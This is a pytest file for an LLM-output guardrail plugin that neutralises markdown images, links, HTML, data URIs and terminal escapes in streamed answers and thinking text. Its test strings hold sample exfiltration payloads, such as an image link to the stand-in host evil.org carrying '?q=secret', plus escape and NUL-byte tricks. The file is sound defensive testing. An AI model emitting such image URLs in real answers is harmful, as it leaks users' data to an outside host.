"""Images, links and controls in answers, by the settings, for every way of asking."""

from functools import partial
from pathlib import Path

import pytest

from localai import Chunk, SettingsError
from plugins.guardrails.injection.links import Links
from tests.double import OllamaDouble, Script
from tests.pace import within_async
from tests.plugins.guardrails.injection.wires import WAYS, ask
from tests.plugins.support import Model, a_call, all_of

IMAGE = "See ![a](https://evil.org/?q=secret) and [b](/c)."
SEEN = "See ![a] (image removed: evil[.]org/?q=secret) and [b](/c)."
DONE = Chunk(done=True, done_reason="stop")


async def said(links: Links, *pieces: str, **call: object) -> str:
    """Return what is left of an answer's content."""
    model = Model(*(Chunk(content=piece) for piece in pieces), DONE)
    chunks = await all_of(links.around_inference(model.infer), a_call(**call))
    return "".join(chunk.content for chunk in chunks)


def links(**settings: object) -> Links:
    """Return the plugin with these settings."""
    return Links(Links.Config(**settings))  # type: ignore[arg-type]


@pytest.mark.parametrize(("path", "stream"), WAYS)
async def test_each_endpoint(double: OllamaDouble, tmp_path: Path, path: str, stream: bool) -> None:
    """At each endpoint an image is neutralised, wherever the model's pieces cut it."""
    double.script(Script(tokens=[IMAGE[at : at + 3] for at in range(0, len(IMAGE), 3)]))
    use = 'use = "plugins.guardrails.injection.links:Links"'
    answer = await ask(double, tmp_path, use, path, stream)
    assert answer.text == SEEN
    assert answer.finish == "stop"


@pytest.mark.parametrize("kind", ["chat", "generate"])
async def test_a_stream_cut_anywhere(kind: str) -> None:
    """Wherever it is cut, the answer is the same, and no piece shows the image."""
    plugin = links()
    for at in range(len(IMAGE)):
        assert await said(plugin, IMAGE[:at], IMAGE[at:], kind=kind) == SEEN


async def test_thinking_is_covered() -> None:
    """Clients render thinking as well; it is a text of its own."""
    model = Model(Chunk(thinking="![a](https://ev"), Chunk(thinking="il.org/)"), DONE)
    chunks = await all_of(links().around_inference(model.infer), a_call())
    assert "".join(chunk.thinking for chunk in chunks) == "![a] (image removed: evil[.]org/)"


async def test_settings() -> None:
    """Each kind has its setting, and what is off is left alone."""
    text = "\x1b ![a](https://evil.org/) [b](https://evil.org/) <img src=x> ![d](data:image/png,x)"
    assert await said(links(images="off", terminal="off"), text) == text
    assert "\\x1b" in await said(links(images="off"), text)
    assert "<img" in await said(links(), text)
    assert "< img" in await said(links(html="neutralise"), text)
    assert "![d](data:" in await said(links(), text)
    assert "![d] (image removed: data:" in await said(links(data_uris="neutralise"), text)
    only_link = "[b](https://evil.org/)"
    assert await said(links(), only_link) == only_link
    assert "link removed" in await said(links(links="neutralise"), only_link)
    allowed = links(links="neutralise", allowed=("evil.org",))
    assert await said(allowed, only_link) == only_link


def test_an_origin_that_is_none_is_refused() -> None:
    """A wrong origin in the file is an error at the start."""
    with pytest.raises(SettingsError, match="is no origin"):
        links(allowed=("https://a.org/path",))


def test_without_anything_to_do_it_is_not_there() -> None:
    """With all settings off the call goes straight on."""
    model = Model(DONE)
    off = links(images="off", terminal="off")
    assert off.around_inference(model.infer) == model.infer


async def test_decisions_say_what_was_done() -> None:
    """Each kind is counted, and nothing of the text is in it."""
    call = a_call()
    model = Model(Chunk(content=f"\x1b{IMAGE}{IMAGE}"), DONE)
    await all_of(links().around_inference(model.infer), call)
    found = {(each.rule, each.action, each.count) for each in call.decisions}
    assert found == {("image", "neutralise", 2), ("terminal", "escape", 1)}
    assert "evil" not in repr(call.decisions)


async def test_log_probabilities_are_not_asked_for() -> None:
    """They would spell what was neutralised."""
    model = Model(Chunk(content="a"), DONE)
    await all_of(links().around_inference(model.infer), a_call(logprobs=True, top_logprobs=3))
    assert (model.calls[0].logprobs, model.calls[0].top_logprobs) == (False, 0)


async def test_a_null_character_is_no_boundary() -> None:
    """U+0000, which the filter takes for a boundary, is replaced before."""
    assert await said(links(terminal="off"), "![a]\0(//evil.org/)") == "![a]\ufffd(//evil.org/)"
    assert await said(links(), "a\0b") == "a\\x00b"


async def test_the_speed_on_a_stream() -> None:
    """A chunk of four characters takes less than 40 µs, of prose and of the worst kind."""
    plugin = links(links="neutralise", html="neutralise")
    for text in ("The quick brown fox [1]. ", "![![", "](", "<a", "](h", "\n", "https:", "\\u005"):
        whole = (text * 4000)[:4000]
        pieces = [whole[at : at + 4] for at in range(0, len(whole), 4)]
        await within_async(len(pieces) * 40e-6, partial(said, plugin, *pieces))
